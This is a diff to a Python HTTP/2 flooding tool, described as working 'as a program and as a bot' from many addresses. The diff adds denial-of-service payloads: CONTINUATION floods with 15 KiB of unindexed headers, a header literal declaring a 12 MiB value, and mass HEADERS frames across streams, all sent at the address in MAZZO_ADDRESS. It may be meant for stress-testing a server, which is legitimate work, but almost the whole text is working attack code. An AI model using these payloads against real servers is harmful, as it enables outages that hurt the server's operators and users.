@@ -1,4 +1,4 @@
-"""Floods an HTTP/2 server with frames that carry nothing, as a program and as a bot.
+"""Floods an HTTP/2 server with frames that carry no message, as a program and as a bot.
 
 It needs no token, comes from many addresses where it can, and prints how many MiB it has sent.
 """
@@ -37,6 +37,18 @@ _REQUEST = bytes.fromhex("83 86") + b"".join(
     )
 )
 _OPEN = _frame(1, _REQUEST, 4, 1)
+_UNFINISHED = _frame(1, _REQUEST, 0, 1)
+_FIELDS = b"".join(  # 15 KiB of headers, literal and never indexed
+    b"\x10\x20" + f"{number:032}".encode() + b"\x70" + bytes(112) for number in range(104)
+)
+_LONG = b"\0\x03x-y\x7f" + b"\xff\xff\xff\x05"  # of a header, whose value has 12 MiB
+_BEGIN = {
+    "data": _OPEN,
+    "continuation": _UNFINISHED,
+    "fields": _UNFINISHED,
+    # Too long to be held until it is whole.
+    "literal": _frame(1, _REQUEST + _LONG + bytes(16_000), 0, 1),
+}
 _FRAMES = {
     "ping": _frame(6, bytes(8)),
     "settings": _SETTINGS,
@@ -46,6 +58,9 @@ _FRAMES = {
     "window": _frame(8, struct.pack(">I", 1), 0, 0),
     "data": _frame(0, b"", 0, 1),
     "continuation": _frame(9, b"", 0, 1),
+    "fields": _frame(9, _FIELDS, 0, 1),
+    "literal": _frame(9, bytes(16 * 1024), 0, 1),
+    "headers": b"".join(_frame(1, _REQUEST + _FIELDS, 4, stream) for stream in range(1, 128, 2)),
     "unknown": _frame(0xFA, bytes(8)),
 }
 
@@ -54,8 +69,8 @@ def main() -> None:
     """Flood `MAZZO_ADDRESS` with `FLOOD_FRAME`, over TLS if `FLOOD_TLS` is set."""
     address = os.environ["MAZZO_ADDRESS"]
     kind = os.environ.get("FLOOD_FRAME", "ping")
-    begin = _OPEN if kind == "data" else _OPEN[:4] + b"\0" + _OPEN[5:] if kind[0] == "c" else b""
-    frames = _FRAMES[kind] * (64 * 1024 // len(_FRAMES[kind]))
+    begin = _BEGIN.get(kind, b"")
+    frames = _FRAMES[kind] * max(1, 64 * 1024 // len(_FRAMES[kind]))
     end = time.monotonic() + _SECONDS
     sent = [0] * _CONNECTIONS
 
